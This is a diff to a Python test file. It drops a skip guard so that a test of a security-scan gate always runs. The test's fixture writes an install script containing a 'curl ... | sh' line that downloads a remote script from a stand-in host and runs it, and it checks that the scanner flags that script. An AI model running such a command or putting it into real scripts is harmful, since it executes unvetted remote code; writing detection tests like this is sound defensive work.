@@ -198,10 +198,6 @@ def test_security_scan_sends_shell_scripts_to_the_projects_scanner(
 
 
 def test_security_scan_real_scanner_flags_curl_pipe_sh(ctx: GateContext) -> None:
-    try:
-        import agent_agency_cli.validation  # noqa: F401
-    except ImportError:
-        pytest.skip("agent_agency_cli.validation (the script scanner) is not in this checkout yet")
     _write(ctx.workdir, {"install.sh": "#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n",
                          "clean.sh": "#!/bin/sh\nset -eu\necho hello\n"})
     bad = run_gate(GateSpec(type="security_scan", paths=["install.sh"]), ctx)
